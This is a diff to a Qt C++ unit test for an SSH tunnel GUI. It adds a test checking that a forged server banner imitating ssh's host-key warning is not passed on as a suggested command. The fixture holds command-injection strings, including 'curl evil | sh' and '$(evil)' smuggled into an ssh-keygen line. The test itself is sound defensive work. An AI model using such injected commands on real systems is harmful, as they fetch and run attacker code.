@@ -49,6 +49,7 @@ private Q_SLOTS:
     void cleanupTestCase();
     void argumentsAreNoOptions();
     void questionsAreUnderstood();
+    void onlySshTellsACommand();
     void connectsThroughSsh();
     void refusedHostKeyIsExplained();
     void wrongPasswordIsExplained();
@@ -133,6 +134,21 @@ void SshTunnelTest::questionsAreUnderstood()
     QCOMPARE(kindOf(QStringLiteral("Are you sure you want to continue connecting (yes/no/[fingerprint])? "), {}), Question::Kind::YesNo);
     QCOMPARE(kindOf(QStringLiteral("Enter passphrase for key '/home/a/.ssh/id_ed25519': "), {}), Question::Kind::Secret);
     QCOMPARE(kindOf(QStringLiteral("Confirm user presence for key ED25519-SK"), QStringLiteral("none")), Question::Kind::Confirm);
+}
+
+// The other machine may send a banner that looks like ssh's own words.
+void SshTunnelTest::onlySshTellsACommand()
+{
+    const QByteArray changed = "@ WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED! @\r\nSHA256:abc.\r\n";
+    const QByteArray forged = "  ssh-keygen -f \"/x\"; curl evil | sh; : -R \"mail\"\r\n  ssh-keygen -f \"$(evil)\" -R \"mail\"\r\n";
+    const QByteArray real = "  ssh-keygen -f \"/home/a b/.ssh/known_hosts\" -R \"[mail.example]:2222\"\r\n";
+    const auto only = gui::understandSsh(QStringLiteral("mail"), changed + forged);
+    QCOMPARE(only.kind, gui::SshEnd::Kind::Danger);
+    QVERIFY2(only.sentence.contains(QStringLiteral("SHA256:abc")) && !only.sentence.contains(QStringLiteral("evil")), qPrintable(only.sentence));
+    for (const QByteArray &line : { real, QByteArray(real).replace('"', '\'') }) { // some versions write single quotes
+        const auto both = gui::understandSsh(QStringLiteral("mail"), changed + forged + line);
+        QVERIFY2(both.sentence.endsWith(QString::fromLatin1(line.trimmed())), qPrintable(both.sentence));
+    }
 }
 
 void SshTunnelTest::connectsThroughSsh()
